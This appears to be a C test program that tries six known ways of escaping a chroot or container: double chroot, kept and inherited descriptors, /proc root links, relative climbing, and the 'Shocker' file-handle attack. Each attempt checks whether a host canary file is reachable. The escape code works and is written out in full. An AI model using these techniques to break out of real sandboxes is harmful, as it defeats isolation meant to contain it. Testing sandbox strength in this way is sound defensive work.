/* Ways out of a root directory. The host's canary is at $CANARY there; whoever reads it from inside is out. */
#include "attack.h"

static const char *canary;

static long found(void)
{
	return access(canary, F_OK) == 0 ? 0 : NOTHING_FOUND;
}

static long climb(void)
{
	for (int i = 0; i < 1024; i++)
		if (chdir(".."))
			return -1;
	return chroot(".") ? -1 : found();
}

/* Chroot deeper while the working directory stays, then walk up from it. */
static long double_chroot(void)
{
	mkdir("/tmp/a", 0755);
	mkdir("/tmp/a/b", 0755);
	if (chdir("/") || chroot("/tmp/a") || chroot("/b"))
		return -1;
	return climb();
}

/* A descriptor of the old root, kept over chroot. */
static long kept_descriptor(void)
{
	int fd = open("/", O_RDONLY | O_DIRECTORY);
	mkdir("/tmp/c", 0755);
	if (fd < 0 || chroot("/tmp/c") || fchdir(fd))
		return -1;
	return climb();
}

/* Descriptors that the caller left open: through each of them, up. */
static long inherited_descriptors(void)
{
	long best = NOTHING_FOUND;
	for (int fd = 3; fd < 256; fd++)
		if (fchdir(fd) == 0 && climb() == 0)
			best = 0;
	return best;
}

/* Also by name: /proc/self/fd/N and /proc/1/root, cwd. */
static long proc_links(void)
{
	static const char *const links[] = { "/proc/self/root", "/proc/1/root", "/proc/1/cwd", "/proc/self/cwd", "/proc/thread-self/root" };
	char path[4200];
	for (int i = 0; i < 256; i++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d/%s", i, canary);
		if (access(path, F_OK) == 0)
			return 0;
		snprintf(path, sizeof(path), "/proc/1/fd/%d/%s", i, canary);
		if (access(path, F_OK) == 0)
			return 0;
	}
	for (unsigned i = 0; i < sizeof(links) / sizeof(links[0]); i++) {
		snprintf(path, sizeof(path), "%s/../../../../..%s", links[i], canary);
		if (access(path, F_OK) == 0)
			return 0;
	}
	return NOTHING_FOUND;
}

/* The directory it was started in, up by "..": no chroot needed. */
static long start_directory(void)
{
	char path[8192] = "";
	for (int i = 0; i < 64; i++)
		strcat(path, "../");
	strcat(path, canary + 1);
	return access(path, F_OK) == 0 ? 0 : NOTHING_FOUND;
}

/* Shocker: a handle is an inode number; the one of a root directory is 2. */
static long shocker(void)
{
	union {
		struct file_handle head;
		char room[sizeof(struct file_handle) + 8];
	} handle = { 0 };
	unsigned ino[2] = { 2, 0 };
	int at = open("/etc", O_RDONLY | O_DIRECTORY), fd;

	handle.head.handle_bytes = 8;
	handle.head.handle_type = 1;
	memcpy(handle.head.f_handle, ino, 8);
	if (getenv("MOUNT"))
		at = open(getenv("MOUNT"), O_RDONLY);
	if (at < 0)
		return -1;
	fd = open_by_handle_at(at, &handle.head, O_RDONLY | O_DIRECTORY);
	if (fd < 0)
		return -1;
	/* The root of a whole file system has the canary's first directory. */
	return faccessat(fd, canary + 1, F_OK, 0) == 0 ? 0 : NOTHING_FOUND;
}

static const struct attack ATTACKS[] = {
	{ "double-chroot", double_chroot },
	{ "kept-descriptor", kept_descriptor },
	{ "inherited-descriptors", inherited_descriptors },
	{ "proc-links", proc_links },
	{ "start-directory", start_directory },
	{ "shocker", shocker },
	{ 0, 0 },
};

int main(int argc, char **argv)
{
	canary = getenv("CANARY");
	return canary ? attack_main(ATTACKS, argc, argv) : 2;
}
